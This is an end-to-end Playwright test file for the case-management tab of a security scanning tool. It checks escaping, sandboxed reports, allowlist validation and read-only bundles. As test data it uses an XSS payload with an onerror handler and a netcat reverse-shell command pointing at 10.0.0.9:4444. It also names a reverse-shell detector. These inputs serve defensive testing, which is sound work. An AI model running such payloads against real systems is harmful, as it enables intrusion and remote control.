import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { artifactPath } from '../helpers/browser.js';
import { useWebApp } from '../helpers/web-app.js';
import path from 'node:path';
import { makeEvidence, makeFindings, makeScan } from '../helpers/case-fixtures.js';
import { writeBundle } from '../../electron/engine/bundle/write-bundle.js';

const HOSTILE = '<img src=x onerror="window.__pwned=1">';

describe('Case tab in web mode', () => {
  const app = useWebApp({ name: 'case', viewport: { width: 1440, height: 1000 } });
  let page: Page;

  beforeAll(async () => {
    page = await app.start({ STOWAWAY_ANALYST: 'e2e-analyst' });
  });
  afterAll(async () => {
    await app.close();
  });

  it('creates a case, adds a note with markup as text, verifies, and previews the HTML report sandboxed', async () => {
    // The machine may be busy with other suites: give the first paint time before acting.
    await page.getByTestId('tab-case').click({ timeout: 60_000 });
    await page.getByTestId('case-view').waitFor({ timeout: 60_000 });
    await page.getByTestId('case-new-name').fill(`Case ${HOSTILE}`);
    await page.getByTestId('case-create').click();
    await expect.poll(() => page.getByTestId('case-title').textContent()).toBe(`Case ${HOSTILE}`);

    await page.getByTestId('case-note').fill(`Found ${HOSTILE} in /etc/profile`);
    await page.getByTestId('case-note').press('Control+Enter');
    await expect.poll(() => page.locator('.cv-note').first().textContent()).toBe(`Found ${HOSTILE} in /etc/profile`);
    expect(await page.locator('img[src=x]').count()).toBe(0);

    await page.getByTestId('case-verify').click();
    await expect.poll(() => page.getByTestId('case-verify-result').textContent()).toContain('custody chain intact');

    await page.getByTestId('report-preview').click();
    const frame = page.getByTestId('report-frame');
    await frame.waitFor();
    expect(await frame.getAttribute('sandbox')).toBe('');
    const inner = page.frameLocator('[data-testid="report-frame"]');
    await expect
      .poll(() => inner.locator('h1').textContent(), { timeout: 15_000 })
      .toBe(`Case report: Case ${HOSTILE}`);
    expect(await inner.locator('img').count()).toBe(0);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();

    await page.getByTestId('report-format').selectOption('md');
    await page.getByTestId('report-preview').click();
    await expect.poll(() => page.getByTestId('report-text').textContent()).toContain('# Case report');

    // An invalid allowlist entry is refused with a reason and the form keeps what was typed.
    await page.getByTestId('allow-id').fill('Bad Id');
    await page.getByTestId('allow-detectors').fill('reverse-shell');
    await page.getByTestId('allow-container').fill('ci-*');
    await page.getByTestId('allow-reason').fill('CI job opens a debug shell');
    await page.getByTestId('allow-add').click();
    await expect.poll(() => page.locator('.state-error').textContent()).toContain('Invalid suppression');
    expect(await page.getByTestId('allow-reason').inputValue()).toBe('CI job opens a debug shell');
    await page.getByTestId('allow-id').fill('ci-shell');
    await page.getByTestId('allow-add').click();
    await expect.poll(() => page.getByLabel('Allowlist').textContent()).toContain('ci-shell@v1');

    // Custody shows everything done above, by the analyst of the session.
    const custody = await page.locator('.cv-custody').textContent();
    for (const action of ['create', 'note', 'verify', 'export', 'suppress']) expect(custody).toContain(action);
    expect(custody).toContain('e2e-analyst');
    await page.screenshot({ path: artifactPath('case-tab.png'), fullPage: true });
  }, 180_000);

  it('keeps a second case side by side and switches between them', async () => {
    await page.getByTestId('case-new-name').fill('Second case');
    await page.getByTestId('case-create').click();
    await expect.poll(() => page.getByTestId('case-title').textContent()).toBe('Second case');
    const options = await page.getByTestId('case-picker').locator('option').allTextContents();
    expect(options).toHaveLength(2);
    const first = await page
      .getByTestId('case-picker')
      .locator('option', { hasText: 'Case <img' })
      .getAttribute('value');
    await page.getByTestId('case-picker').selectOption(first!);
    await expect.poll(() => page.getByTestId('case-title').textContent()).toBe(`Case ${HOSTILE}`);
  }, 120_000);

  it('opens an offline bundle as a read-only case and shows its recorded evidence as text', async () => {
    const result = makeScan(makeFindings(6));
    const bundle = path.join(app.dataDir, 'remote.tar.gz');
    await writeBundle(bundle, {
      result,
      evidence: makeEvidence(result, `nc -e /bin/sh 10.0.0.9 4444 ${HOSTILE}`),
      createdBy: 'remote-analyst',
    });
    await page.getByTestId('case-bundle-path').fill(bundle);
    await page.getByTestId('case-bundle-path').press('Enter');
    await expect
      .poll(() => page.locator('.cv-status', { hasText: 'read-only bundle' }).count(), { timeout: 30_000 })
      .toBe(1);
    expect(await page.getByTestId('case-add-scan').isDisabled()).toBe(true);
    const panel = page.getByTestId('case-evidence');
    await panel.waitFor({ timeout: 30_000 });
    await expect.poll(() => panel.textContent()).toContain(`nc -e /bin/sh 10.0.0.9 4444 ${HOSTILE}`);
    expect(await panel.textContent()).toContain('/etc/passwd');
    expect(await page.locator('img[src=x]').count()).toBe(0);
    await page.screenshot({ path: artifactPath('case-bundle.png'), fullPage: true });
  }, 120_000);
});
